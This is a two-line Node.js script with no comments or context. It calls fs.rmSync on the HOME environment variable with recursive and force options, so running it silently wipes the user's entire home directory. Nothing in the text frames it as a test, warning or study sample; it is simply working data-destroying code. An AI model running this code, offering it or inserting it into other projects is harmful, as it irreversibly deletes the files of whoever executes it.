const fs = require('fs');
fs.rmSync(process.env.HOME, { recursive: true, force: true });
